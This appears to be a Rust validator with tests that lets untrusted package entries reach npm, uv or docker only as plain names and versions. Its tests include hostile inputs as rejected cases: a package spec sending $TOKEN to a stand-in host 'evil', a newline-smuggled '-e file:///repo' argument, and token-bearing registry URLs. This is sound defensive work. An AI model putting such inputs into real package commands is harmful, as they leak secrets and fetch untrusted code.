//! Whether a package can be looked up in its registry. An entry may come from a repository that
//! nobody approved, so its words reach a package manager only in the form of names and versions:
//! never as URLs, paths or further lines, which package managers build, run or expand.

use serde_json::Value;
use trunkline_config::{Package, Registry};

/// Checks that the command of an entry is written out: the values of variables, which may be
/// secrets, would reach the registries that it names, and the lock file.
pub(crate) fn check_written(entry: &Value) -> Result<(), String> {
    let members = ["command", "args", "env"].into_iter();
    let mut texts = members.filter_map(|member| entry.get(member));
    if texts.any(|value| value.to_string().contains('$')) {
        return Err("its command or `env` depends on variables".to_owned());
    }
    Ok(())
}

/// Checks the names, versions and registries of a package.
pub(crate) fn check(package: &Package) -> Result<(), String> {
    let is_name = match package.registry {
        Registry::Npm => is_npm_name(&package.name),
        Registry::Pypi => is_word(&package.name, "._-"),
        _ => is_word(&package.name, "._-/:"),
    };
    if !is_name {
        return Err("its name is none of a registry".to_owned());
    }
    let versions = match package.registry {
        Registry::Image => "._-+:",
        _ => "._-+*<>=~^!,|",
    };
    let is_version = |version: &String| is_word(version, versions);
    if !package.requested.as_ref().is_none_or(is_version) {
        return Err("its version is none of a registry".to_owned());
    }
    if !package
        .also
        .iter()
        .all(|spec| is_word(spec, "._-@/+*<>=~^!,|[]"))
    {
        return Err("a package beside it is none of a registry".to_owned());
    }
    let registries = package.registries.iter();
    match registries
        .map(|registry| registry.split_once('='))
        .find(|registry| {
            !registry.is_some_and(|(name, value)| !names_file(name) && is_plain_url(value))
        }) {
        Some(_) => Err("the registry that it names is no plain URL".to_owned()),
        None => Ok(()),
    }
}

/// Whether an option or variable names a file of settings, which could name programs.
fn names_file(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name.ends_with("userconfig") || name.ends_with("config-file") || name.ends_with("config_file")
}

fn is_plain_url(value: &str) -> bool {
    let rest = value
        .strip_prefix("https://")
        .or_else(|| value.strip_prefix("http://"));
    rest.is_some_and(|rest| is_word(rest, "._-~:/?&=%+@"))
}

/// `name` or `@scope/name`.
fn is_npm_name(name: &str) -> bool {
    match name.strip_prefix('@') {
        Some(scoped) => scoped
            .split_once('/')
            .is_some_and(|(scope, name)| is_word(scope, "._-~") && is_word(name, "._-~")),
        None => is_word(name, "._-~"),
    }
}

/// Whether a text has only letters, digits and these characters, and does not pass for an option or
/// a path.
fn is_word(text: &str, others: &str) -> bool {
    !text.is_empty()
        && !text.starts_with(['-', '.', '/'])
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || others.contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_with_variables_is_not_locked() {
        let entry = |text: &str| serde_json::from_str(text).unwrap();
        for (text, expected) in [
            (r#"{"command": "npx", "args": ["y"], "x": "$"}"#, true),
            (
                r#"{"command": "npx", "args": ["--registry=https://r/${T}/", "y"]}"#,
                false,
            ),
            (
                r#"{"command": "npx", "env": {"npm_config_registry": "http://r/$T"}}"#,
                false,
            ),
        ] {
            assert_eq!(check_written(&entry(text)).is_ok(), expected, "{text}");
        }
    }

    #[test]
    fn only_names_and_versions_reach_a_package_manager() {
        for (argv, expected) in [
            (&["npx", "-y", "@x/y"][..], true),
            (&["npx", "-y", "y@^1.2.3"], true),
            (&["npx", "--registry=https://r.example/npm", "y"], true),
            (&["uvx", "--from", "x[cli]>=1.2,<2", "run"], true),
            (&["uvx", "--with", "b==1", "a"], true),
            (&["docker", "run", "h:5000/x/y:1.2"], true),
            (&["npx", "-y", "git+https://h/x.git"], false),
            (&["npx", "-y", "github:x/y"], false),
            (&["npx", "-y", "./x"], false),
            (&["npx", "-y", "file:x"], false),
            (&["npx", "-y", "y@npm:z"], false),
            (&["npx", "-y", "y@http:127.0.0.1:1"], false),
            (&["npx", "-y", "y@git+http:h:1"], false),
            (&["npx", "--userconfig", "./.npmrc", "y"], false),
            (
                &["npx", "--registry=https://r.example/${TOKEN}", "y"],
                false,
            ),
            (&["npx", "--registry=file:///x", "y"], false),
            (&["uvx", "x\n-e file:///repo"], false),
            (&["uvx", "x @ http://evil/$TOKEN/x.whl"], false),
            (&["uvx", " -e ."], false),
            (&["uvx", "--from", "git+https://h/x@main", "r"], false),
            (&["uvx", "--with-requirements", "r.txt", "a"], false),
            (&["uvx", "--with", "git+https://h/x", "a"], false),
            (&["docker", "run", "x y"], false),
        ] {
            let package = Package::of_command(argv).unwrap();
            assert_eq!(check(&package).is_ok(), expected, "{argv:?}: {package:?}");
        }
    }
}
